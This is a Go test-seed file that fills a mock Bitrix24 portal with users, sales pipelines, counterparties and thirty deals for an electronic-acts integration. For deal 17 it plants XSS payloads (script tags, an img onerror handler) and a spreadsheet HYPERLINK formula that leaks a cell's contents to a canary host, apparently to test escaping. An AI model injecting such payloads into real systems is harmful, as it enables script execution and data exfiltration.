package main

import (
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"strconv"

	"acts24/integrations/bitrix24/bitrix24test"
)

// The users of the seed.
const (
	seedAdmin      = 1
	seedManager    = 2
	seedOutsider   = 3 // may not see the last two deals
	seedAccountant = 4
	seedHead       = 5
)

// Counterparty is a party of the seed as an EDO operator reports it. An ИП has the parts of a name and no KPP.
type Counterparty struct {
	INN, KPP, Name                  string
	LastName, FirstName, MiddleName string
	Participant                     string // EDO id, empty when the party has none
	Own                             bool   // one of our own legal entities
}

// Counterparties returns every party of the seed that has an INN, our own last.
func Counterparties() []Counterparty {
	var out []Counterparty
	for _, p := range append(seedClients(), seedOwn()...) {
		if p.Bare {
			continue
		}
		c := Counterparty{INN: p.INN, KPP: p.KPP, Name: p.Name, Participant: p.Box, Own: p.Own}
		if p.isPerson() {
			c.LastName, c.FirstName, c.MiddleName = nameParts(p.Legal)
			c.Name = "ИП " + p.Legal
		}
		out = append(out, c)
	}
	return out
}

// seedPortal fills an empty portal with users, pipelines, parties and thirty deals. Every call gives the same data.
func seedPortal(p *bitrix24test.Portal) {
	seedPeople(p)
	seedPipelines(p)
	p.AddUserField(bitrix24test.UserField{EntityID: "CRM_DEAL", Name: contractField, Kind: "string", Label: "Договор"})
	own := [2]int64{}
	for i, party := range seedOwn() {
		_, own[i] = putParty(p, party)
	}
	seedDeals(p, own)
}

func seedPeople(p *bitrix24test.Portal) {
	p.AddDepartment(bitrix24test.Department{ID: 1, Name: "Центр экспорта", Head: seedAdmin})
	p.AddDepartment(bitrix24test.Department{ID: 2, Name: "Отдел продвижения", Parent: 1, Head: seedHead})
	p.AddDepartment(bitrix24test.Department{ID: 3, Name: "Бухгалтерия", Parent: 1, Head: seedAccountant})
	for _, u := range []bitrix24test.User{
		{ID: seedAdmin, Name: "Анна", LastName: "Соколова", Position: "Администратор портала", Email: "sokolova@center.example", Admin: true, Departments: []int64{1}},
		{ID: seedManager, Name: "Михаил", LastName: "Орлов", Position: "Менеджер", Email: "orlov@center.example", Mailbox: "Михаил Орлов <orlov@center.example>", Departments: []int64{2}},
		{ID: seedOutsider, Name: "Пётр", LastName: "Климов", Position: "Стажёр", Email: "klimov@center.example", Departments: []int64{2}},
		{ID: seedAccountant, Name: "Елена", LastName: "Смирнова", Position: "Главный бухгалтер", Email: "smirnova@center.example", Departments: []int64{3}},
		{ID: seedHead, Name: "Ольга", LastName: "Руднева", Position: "Начальник отдела", Email: "rudneva@center.example", Departments: []int64{2}},
	} {
		p.AddUser(u)
	}
	p.AddGroup(bitrix24test.Group{ID: 1, Name: "Работа с актами", Members: map[int64]string{seedAdmin: "A", seedManager: "K", seedAccountant: "K"}})
}

// seedStage is a stage of both pipelines.
type seedStage struct {
	code, name, color, semantics string
	system                       bool
}

var seedStages = []seedStage{
	{"NEW", "Новая заявка", "#39A8EF", "", true},
	{"PREPARATION", "Подготовка документов", "#2FC6F6", "", false},
	{"EXECUTING", "В работе", "#47E4C2", "", false},
	{"UC_ACT", "Подготовка акта", "#FFD400", "", false},
	{"UC_APPROVED", "Одобрено комиссией", "#FFA900", "", false},
	{"UC_SENT", "Акт направлен заявителю", "#55D0E0", "", false},
	{"UC_REMARKS", "Услуга оказана, есть замечания", "#FF9F7A", "", false},
	{"WON", "Услуга оказана", "#7BD500", "S", true},
	{"LOSE", "Сделка проиграна", "#FF5752", "F", true},
}

func seedPipelines(p *bitrix24test.Portal) {
	p.AddCategory(bitrix24test.Category{ID: 0, EntityTypeID: bitrix24test.Deal, Name: "Продвижение за рубежом", Sort: 100, Default: true})
	p.AddCategory(bitrix24test.Category{ID: 1, EntityTypeID: bitrix24test.Deal, Name: "Выставки", Sort: 200})
	for _, category := range []int64{0, 1} {
		for i, s := range seedStages {
			p.AddStage(bitrix24test.Deal, category, bitrix24test.Stage{
				StatusID: s.code, Name: s.name, NameInit: s.name, Sort: int64(i+1) * 10, System: s.system, Color: s.color, Semantics: s.semantics,
			})
		}
	}
}

// seedDeals adds the deals with their clients.
func seedDeals(p *bitrix24test.Portal, own [2]int64) {
	clients := seedClients()
	cards, requisites := make([]int64, len(clients)), make([]int64, len(clients))
	for i, c := range clients {
		cards[i], requisites[i] = putParty(p, c)
	}
	for n := 1; n <= 30; n++ {
		client := dealClient(n, len(clients))
		id := p.AddItem(bitrix24test.Deal, dealFields(n, clients[client], cards[client]))
		rows, listed := seedRows[n]
		if !listed {
			rows = usualRows(n)
		}
		if len(rows) > 0 {
			p.SetRows(seedManager, bitrix24test.Deal, id, rows)
		}
		if n <= 6 || n == 12 {
			p.Link(bitrix24test.Deal, id, requisites[client], 0, own[(n/4)%2], 0)
		}
		if n > 28 {
			p.Hide(seedOutsider, bitrix24test.Deal, id)
		}
	}
}

// dealClient returns the index of a deal's client: first each client once, then those with missing data, then
// from the beginning again.
func dealClient(n, clients int) int {
	if n <= clients {
		return n - 1
	}
	return (n - clients - 1) % 10
}

func dealFields(n int, client seedParty, card int64) bitrix24test.Fields {
	category, stage := int64(0), "UC_ACT"
	switch {
	case n > 20 && n%3 == 0:
		category = 1
	case n == 27:
		stage = "LOSE"
	case n == 28:
		stage = "WON"
	case n > 2:
		stage = []string{"EXECUTING", "UC_ACT", "UC_APPROVED", "NEW", "PREPARATION"}[n%5]
	}
	if n > 10 && stage == "UC_APPROVED" {
		stage = "EXECUTING"
	}
	f := bitrix24test.Fields{
		"title": dealTitle(n, client), "categoryId": category, "stageId": stage, "assignedById": responsible(n),
		"comments": fmt.Sprintf("Договор № %d/26 от 12.01.2026", 100+n), "currencyId": "RUB", "ufCrmContract": dealContract(n),
	}
	if category > 0 {
		f["stageId"] = "C1:" + stage
	}
	if client.Contact {
		f["contactId"] = card
	} else {
		f["companyId"] = card
	}
	if client.Box != "" {
		f["ufCrmDealActsOperator"], f["ufCrmDealActsParticipant"] = operatorTitle(client.Box), client.Box
	}
	if n == 15 || n == 16 || n == 26 { // no rows: the sum is entered by hand
		f["opportunity"], f["isManualOpportunity"] = 85000.0+float64(n), "Y"
	}
	if n == 18 {
		f["currencyId"] = "USD"
	}
	return f
}

// contractField is the deal field that names the contract.
const contractField = "UF_CRM_CONTRACT"

// dealContract returns the value of contractField: usually a complete contract, sometimes nothing or a remark.
func dealContract(n int) string {
	switch {
	case n == 9:
		return fmt.Sprintf("по договору %d/26", 100+n)
	case n%7 == 5:
		return ""
	}
	return fmt.Sprintf("Договор № %d/26 от 12.01.2026", 100+n)
}

func operatorTitle(box string) string {
	if box[:3] == "2BM" {
		return "Диадок (Контур)"
	}
	return "СБИС (Тензор)"
}

func dealTitle(n int, client seedParty) string {
	if n == 17 {
		return `Сделка "><script>alert('сделка')</script>`
	}
	what := []string{"Выход на рынок ОАЭ", "Деловая миссия", "Участие в выставке", "Продвижение на площадках", "Сертификация для экспорта"}[n%5]
	name := client.Name
	if name == "" {
		name = client.Legal
	}
	return what + ": " + name
}

// responsible returns the manager, who works with the acts of his deals; one deal belongs to his head, and
// its acts are invisible to the manager.
func responsible(n int) int64 {
	if n == 27 {
		return seedHead
	}
	return seedManager
}

func vat(percent float64) *float64 { return &percent }

// service returns a usual row: a price with VAT of 22 %.
func service(name string, price, count float64) bitrix24test.Row {
	return bitrix24test.Row{Name: name, Price: price, Quantity: count, TaxRate: vat(22), TaxIncluded: true, Measure: 796}
}

// withRate returns the row with another VAT rate; nil means without VAT.
func withRate(r bitrix24test.Row, rate *float64) bitrix24test.Row {
	r.TaxRate, r.TaxIncluded = rate, rate != nil
	return r
}

// seedRows maps deal numbers to product rows; other deals have three usual rows.
var seedRows = map[int][]bitrix24test.Row{
	1: {
		service("Подбор зарубежных покупателей", 12200, 3),
		service("Перевод каталога на английский язык", 1830, 24),
		service("Организация деловой миссии в Дубай", 244000, 2),
		withRate(service("Справочная информация по рынку", 5000, 2), nil),
	},
	2: {
		withRate(service("Размещение на торговой площадке", 15000, 2), nil),
		withRate(service("Фотосъёмка продукции", 900, 12), nil),
	},
	3: {
		{Name: "Участие в выставке «Gulfood»: аренда стенда", Price: 439200, Quantity: 1, TaxRate: vat(22), TaxIncluded: true, DiscountRate: 10, Measure: 796},
		{Name: "Доставка образцов", Price: 1037.5, Quantity: 12.345, TaxRate: vat(22), TaxIncluded: true, Measure: 166},
		{Name: "Застройка стенда", Price: 2745.33, Quantity: 36.5, TaxRate: vat(22), Measure: 55},
	},
	4: {
		withRate(service("Консультация по сертификации", 3200, 5), vat(5)),
		withRate(service("Подготовка договора", 10700, 1), vat(7)),
	},
	5: {
		withRate(service("Дегустационные наборы", 550, 200), vat(10)),
		{Name: "Разработка упаковки", Price: 97600, Quantity: 1, TaxRate: vat(22), TaxIncluded: true, DiscountSum: 5000, Measure: 796},
	},
	6: {withRate(service("Ведение кабинета на площадке, месяц", 25000, 3), nil)},
	7: {service("Поиск дистрибьютора в Индии", 183000, 1), withRate(service("Экспортная перевозка", 96000, 1), vat(0))},
	8: {withRate(service("Обучение персонала, час", 2100.1, 7.5), vat(5))},
	9: {
		service("Регистрация товарного знака", 61000, 2), service("Патентный поиск", 18300.07, 3),
		withRate(service("Лекарственные образцы", 1100, 33), vat(10)),
	},
	10: {withRate(service("Составление бизнес-плана", 45000, 1), nil), withRate(service("Расчёт логистики", 333.33, 3), nil)},
	11: {
		service("Очень длинное название услуги № 1 «с кавычками „внутри“» — подготовка полного комплекта экспортных документов, включая перевод, нотариальное заверение, апостиль, оформление сертификата происхождения формы СТ-1 и доставку в посольство 📦 ёмкостью до 100 листов", 15250, 1),
		service(`Услуга "с прямыми кавычками" & <угловыми скобками>`, 100, 1),
	},
	12: {withRate(service("Маркетинговое исследование (договор 2025 года)", 120000, 1), vat(20)), withRate(service("Печать буклетов", 60, 1000), vat(20))},
	13: {service("Смета по старой ставке", 12000, 1), withRate(service("Консультация по старой ставке", 6000, 2), vat(20))},
	14: manyRows(64),
	15: {},
	16: {},
	17: {service("<script>alert('строка')</script>", 1220, 1), service(`"><img src=x onerror=alert(2)>`, 2440, 2), service("=HYPERLINK(\"http://canary.example/\"&A1)", 610, 1)},
	26: {},
}

// manyRows returns n rows, more than one page of the portal's list.
func manyRows(n int) []bitrix24test.Row {
	rates := []*float64{vat(22), vat(10), vat(7), vat(5), vat(0), nil}
	var out []bitrix24test.Row
	for i := range n {
		out = append(out, withRate(service(fmt.Sprintf("Поставка образца № %d", i+1), 122.5+float64(i)*3.37, float64(i%5)+0.5), rates[i%len(rates)]))
	}
	return out
}

func usualRows(n int) []bitrix24test.Row {
	return []bitrix24test.Row{
		service("Сопровождение экспортной сделки", 30500+float64(n)*610, 1), service("Перевод документов, страница", 610, float64(4+n)),
		withRate(service("Справка о рынке", 2500, 1), nil),
	}
}

// ogrn appends the check digit (remainder of the division by 11 or 13) to twelve digits (legal entity) or fourteen (ИП).
func ogrn(base string) string {
	n, err := strconv.ParseUint(base, 10, 64)
	if err != nil {
		panic(err)
	}
	modulus := uint64(11)
	if len(base) == 14 {
		modulus = 13
	}
	return base + strconv.FormatUint(n%modulus%10, 10)
}

// sbisBox returns a participant id in the format of SBIS: 2BE and 32 hexadecimal digits.
func sbisBox(inn string) string {
	sum := sha256.Sum256([]byte("box " + inn))
	return "2BE" + hex.EncodeToString(sum[:16])
}

// diadocBox returns a participant id in the format of Diadoc.
func diadocBox(inn, kpp string) string {
	if kpp == "" {
		return fmt.Sprintf("2BM-%s--2016072812271194308390000000", inn)
	}
	return fmt.Sprintf("2BM-%s-%s-201904121015", inn, kpp)
}
